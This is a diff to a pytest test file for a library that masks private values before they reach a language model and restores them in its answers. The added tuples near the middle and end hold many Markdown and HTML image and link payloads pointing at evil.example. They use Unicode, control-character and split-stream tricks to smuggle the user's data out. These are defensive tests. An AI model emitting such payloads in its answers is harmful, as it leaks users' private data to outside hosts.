@@ -6,6 +6,8 @@ import numpy as np
 import pytest
 
 import mondegreen as mg
+from mondegreen.prompts.answers import AnswerRestorer
+from mondegreen.prompts.turns import Place, Turns
 from vectors.device import conversation_vectors as vectors
 
 # Each of them loads or links to evil.example with what stands at @, by CommonMark,
@@ -90,7 +92,8 @@ PRIVATE = ("Okonkwo", "4711-0815-22", "987654", "$48,213.57", "12/03/1985")
 # them.
 TEXTS = (
     "[x](https://good.example) and @",
-    '<a href="https://good.example">@</a>',
+    '<a href="https://good.example"> @</a>',
+    '<a href="good">@</a> [x](good)@ [x](good)(@)',
     "<b>@</b> (https://good.example) @",
     "`https://good.example` `@`",
     '{"url":"https://good.example", "name":"@"}',
@@ -303,3 +306,309 @@ def test_brackets_of_json_are_no_labels(conversation):
     answer = said.replace("Okonkwo", conversation.hide("Okonkwo"))
     assert conversation.restore(answer, is_json=True) == said
     assert conversation.restore(answer) == answer
+
+
+# What strangers wrote to get past the rules; each sends what stands at @ to a server
+# for at least one usual program.
+BROKEN = (
+    # The > is the marker of a quotation.
+    '> <img alt=x\n> src="https://evil.example/?q= @">',
+    '> > a <img alt=x\n> > src="https://evil.example/?q= @">',
+    '- > <img alt=x\n  > src="https://evil.example/?q= @">',
+    '> a\nb <img alt=x\n> src="https://evil.example/?q= @">',
+    '[^1]: > <img alt=x\n    > src="https://evil.example/?q= @">',
+    "> ![x](<https://evil.example/\n> @>)",
+    # Angle brackets that some programs read and others do not.
+    "![x](<https://evil.example/\n) @>)",
+    "[x](<a ![y](https://evil.example/(>)@)",
+    "[x](<a <b ![y](https://evil.example/?q=(>)@)",
+    # Other blanks, and signs that programs remove.
+    "![x](\u00a0<https://evil.example/?q= @>)",
+    "![x](\x0b<https://evil.example/?q= @>)",
+    "![x](\x0c<https://evil.example/?q= @>)",
+    "![x](\u2003<https://evil.example/?q= @>)",
+    "![x](\ufeff<https://evil.example/?q= @>)",
+    "[x]:\u00a0\n<https://evil.example/?q= @>",
+    "![x]\x02(< https://evil.example/?q= @>)",
+    '<\x02img src="https://evil.example/?q= @">',
+    '<img a=\x01"b src="https://evil.example/?q=>@">',
+    "\x1a![x]\x1a( https://evil.example/?q= @)",
+    # Code in a target.
+    "![x](https://evil.example/`)`@)",
+    "![x](https://evil.example/`)` @)",
+    "![x](<https://evil.example/`>`) @)",
+    # Definitions.
+    "[x]: <https://evil.example/>@",
+    "[x]: <https://evil.example/> @",
+    "[x]: https://evil.example/?q= @",
+    "[x]:\n  https://evil.example/?q= @",
+    "[^1]: https://evil.example/?q= @",
+    "[^1]: see //evil.example/?q= @",
+    "[x]: a]:@",
+    "[^1]: a]:@",
+    "[x]: ]:@",
+    ":   [x]: @",
+    "\ufeff[x]: @",
+    "a. [x]: @",
+    "b) > C) [x]: @",
+    # A blank before the target, attributes, escapes.
+    "![x] (< https://evil.example/?q= @>)",
+    "![x]\n(< https://evil.example/?q= @>)",
+    "![x](a.png){:@}",
+    '![x](a.png){: src="https://evil.example/?q= @" }',
+    '![x][y]{src="https://evil.example/?q= @"}',
+    '# Head {: style="background:url( @ )" }',
+    "![\\[x] @](https://evil.example/)",
+    "![x](https://evil.example/\\() @)",
+    # What looks like a link or a tag is none, and the address goes on.
+    "[x](a https://evil.example/)@",
+    "a](https://evil.example/)@",
+    "`[`x](https://evil.example/)@",
+    "[a [b](c) d](https://evil.example/)@",
+    "5 <a https://evil.example/>@",
+    '<a ! href="https://evil.example/">@',
+    # Letters that regular expressions, and names of hosts, take for others.
+    "localho\u017ft:80/@",
+    "http\u017f:@",
+    "HTTP\u017f:@",
+)
+
+
+@pytest.mark.parametrize("link", BROKEN)
+def test_no_link_that_strangers_wrote_gets_an_original(link, conversation):
+    c = conversation
+    for private in (
+        "Okonkwo",
+        "okonkwo@mail.example",
+        "https://okonkwo.example/Okonkwo",
+    ):
+        if private.startswith("https:") and link.endswith("[x]: @"):
+            continue  # a whole target of the user
+        answer = link.replace("@", c.hide(private))
+        assert c.restore(answer) == answer
+        assert "".join(c.restore_stream(answer)) == answer
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<h2\n>@</h2> and @", "> @\n> <b>@</b> @", "f(x){ y\n} @",
+        "[x](<a>) @", "[x](a`b)\n\n@", "[^1]: It was @, and @", "[x]: y\n@",
+        "[x](<a>)`@`", "a.png {x} @", "- [x] @\n- [ ] @",
+    ],
+)  # fmt: skip
+def test_names_come_back_behind_what_is_kept(text, conversation):
+    answer = text.replace("@", conversation.hide("Okonkwo"))
+    assert conversation.restore(answer) == text.replace("@", "Okonkwo")
+
+
+OWN = "https://okonkwo.uni.example"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<img src="@\n.evil.example/a">', '<img src="@\t@evil.example/a">',
+        "<img src=\"@'.evil.example/a\">", "<img src='@\".evil.example/a'>",
+        "<img src=@'.evil.example/a>", "<img src=@\n.evil.example/a>",
+        "![x](@'.evil.example/a)", "![x](@'@evil.example/a)",
+        "![x](@(.evil.example/a))",
+        "[x]: @'.evil.example/a", "[x]: @).evil.example/a", "![x](<@).evil.example/>)",
+        "[x]: <@'.evil.example/a>", "<@'.evil.example/a>", "see @'.evil.example/a",
+        "see @,.evil.example/a", "`@`.evil.example/a", "see @(.evil.example/a)",
+        "see @!!!!!!!!!!.evil.example/a",
+    ],
+)  # fmt: skip
+def test_no_own_address_is_the_beginning_of_another_host(text, conversation):
+    c = conversation
+    before, _, behind = text.partition("@")
+    answer = before + c.hide(OWN) + behind
+    assert c.restore(answer) == answer
+    assert "".join(c.restore_stream(answer)) == answer
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[x](@)", "![x](<@>)", "[a]: @\n", "[a]: <@>", '<a href="@">x</a>', "<@>",
+        "<a href='@'>x</a>", "@.", "(see @)", '"@", and', "`@`",
+    ],
+)  # fmt: skip
+def test_an_own_address_without_a_path_comes_back_whole(text, conversation):
+    c = conversation
+    answer = text.replace("@", c.hide(OWN))
+    assert c.restore(answer) == text.replace("@", OWN)
+    assert "".join(c.restore_stream(answer)) == text.replace("@", OWN)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://evil.example/?q=](@)", "https://evil.example/?q=[a](@)",
+        "![x](https://evil.example/`)` [y](@)", "[x]: https://evil.example/?q= [y](@)",
+        '[x]: https://evil.example/?q= <img src="@">',
+        "[x]: https://evil.example/?q= [y]: <@>",
+        '//evil.example/<a/href="@">',
+    ],
+)  # fmt: skip
+def test_no_own_address_is_a_part_of_another_one(text, conversation):
+    c = conversation
+    answer = text.replace("@", c.hide("https://okonkwo.example/a?b=Okonkwo"))
+    assert c.restore(answer) == answer
+
+
+def test_an_own_address_comes_back_as_the_target_of_another(conversation):
+    c = conversation
+    url = "https://okonkwo.example/a"
+    text = "[https://good.example/](@) and [y](@)"
+    assert c.restore(text.replace("@", c.hide(url))) == text.replace("@", url)
+
+
+@pytest.mark.parametrize("tag", ["<@ x>", "<@\nx>", "<@\tsrc=a>", "x<@ class=a>"])
+def test_no_name_of_a_tag_is_an_address(tag, conversation):
+    c = conversation
+    for private in ("okonkwo@mail.example", "https://okonkwo.example/a"):
+        answer = tag.replace("@", c.hide(private))
+        assert c.restore(answer) == answer
+
+
+# An answer in two texts, which programs show as one.
+HALVES = (
+    ("![x](https://evil.example/?q=", "@)"),
+    ("![x](< https://evil.example/?q= ", "@>)"),
+    ("![x]", "(< https://evil.example/?q= @>)"),
+    ('<img src="https://evil.example/?q= ', '@">'),
+    ("<", 'img src="https://evil.example/?q= @">'),
+    ("see https://evil.example/", "@"),
+    ("![x][", "@]"),
+    ("\n[x]:", " @"),
+)
+
+
+def _chunk(index, text, finish=None):
+    choice = {"index": index, "delta": {"content": text}, "finish_reason": finish}
+    return {"choices": [choice]}
+
+
+def _streams(first, second):
+    """Write two texts as the events of one stream, in several ways."""
+    yield [_chunk(0, first), _chunk(1, second)]
+    yield [_chunk(1, ""), _chunk(0, first), _chunk(1, second), _chunk(0, "")]
+    yield [_chunk(0, first, "stop"), _chunk(0, second)]
+    yield [_chunk(0, first, "stop"), _chunk(1, second, "stop")]
+    for indices in ((0, 0), (0, 1)):
+        yield [
+            {"choices": [{"index": i, "text": text, "finish_reason": None}]}
+            for i, text in zip(indices, (first, second), strict=True)
+        ]
+    where = {"item_id": "a", "output_index": 0}
+    texts = list(enumerate((first, second)))
+    for kind in ("response.output_text", "response.refusal"):
+        yield [
+            {"type": f"{kind}.delta", **where, "content_index": i, "delta": text}
+            for i, text in texts
+        ]
+    yield [
+        {"type": "response.output_text.done", **where, "content_index": i, "text": text}
+        for i, text in texts
+    ]
+    yield [
+        {
+            "type": "response.content_part.done",
+            "part": {"type": "output_text", "text": t},
+        }
+        for _, t in texts
+    ]
+    yield [{"type": "response.completed", "response": _response(first, second)}]
+
+
+def _response(*texts):
+    return {
+        "output": [
+            {"type": "message", "content": [{"type": "output_text", "text": text}]}
+            for text in texts
+        ]
+    }
+
+
+def _answer(conversation, **how):
+    return AnswerRestorer(conversation, Turns(), Place(b"", b""), **how)
+
+
+def _read(shown):
+    """Return all texts of events or of an answer, joined."""
+    if isinstance(shown, dict):
+        names = ("text", "delta", "content", "refusal")
+        found = [shown[n] for n in names if isinstance(shown.get(n), str)]
+        return "".join(found) + _read(list(shown.values()))
+    return "".join(map(_read, shown)) if isinstance(shown, list) else ""
+
+
+@pytest.mark.parametrize("halves", HALVES)
+def test_no_stream_in_parts_gets_an_original(halves, conversation):
+    c = conversation
+    first, second = (text.replace("@", c.hide("Okonkwo")) for text in halves)
+    for events in _streams(first, second):
+        answer = _answer(c)
+        shown = [each for event in events for each in answer.event(event)]
+        shown += answer.end()
+        assert "konkwo" not in str(shown)
+        assert _read(shown) == first + second
+
+
+@pytest.mark.parametrize("halves", HALVES)
+def test_no_answer_in_parts_gets_an_original(halves, conversation):
+    c = conversation
+    first, second = (text.replace("@", c.hide("Okonkwo")) for text in halves)
+    choices = [{"message": {"content": first}}, {"message": {"content": second}}]
+    texts = [{"text": first}, {"text": second}]
+    for given in ({"choices": choices}, {"choices": texts}, _response(first, second)):
+        assert _answer(c).whole(given) == given
+
+
+def test_what_waits_is_read_where_it_stood(conversation):
+    c = conversation
+    sent = c.hide("Okonkwo")
+    answer, shown = _answer(c), []
+    texts = [(2, "![x](https://evil.example/"), (0, f" {sent}"), (1, ")"), (0, " and")]
+    for index, text in texts:
+        shown += answer.event(_chunk(index, text))
+    shown += answer.end()
+    assert "konkwo" not in str(shown)
+
+
+def test_parts_that_leave_nothing_open_are_restored(conversation):
+    c = conversation
+    sent = c.hide("Okonkwo")
+    texts = (f"[x](https://good.example) {sent}. ", f"So {sent} it is")
+    for events in _streams(*texts):
+        answer = _answer(c)
+        shown = [each for event in events for each in answer.event(event)]
+        shown += answer.end()
+        assert sorted(_read(shown)) == sorted("".join(texts).replace(sent, "Okonkwo"))
+
+
+def test_thoughts_leave_nothing_open_in_what_is_said(conversation):
+    c = conversation
+    message = {"reasoning_content": "a [b", "content": c.hide("Okonkwo")}
+    shown = _answer(c).whole({"choices": [{"message": message}]})
+    assert shown["choices"][0]["message"]["content"] == "Okonkwo"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '["![x](< https://evil.example/?q= ", "@>)"]', '["![x][", "@]"]',
+        '{"a": "<img src=\'https://evil.example/?q= ", "b": "@\'>"}',
+        '{"![x](< https://evil.example/?q= ": "@>)"}',
+    ],
+)  # fmt: skip
+def test_strings_of_json_begin_inside_of_what_those_before_leave_open(
+    text, conversation
+):
+    c = conversation
+    answer = text.replace("@", c.hide("Okonkwo"))
+    assert c.restore(answer, is_json=True) == answer
+    assert "".join(c.restore_stream(answer, is_json=True)) == answer
+    closed = f'["see https://good.example/", "{c.hide("Okonkwo")}"]'
+    assert "Okonkwo" in c.restore(closed, is_json=True)
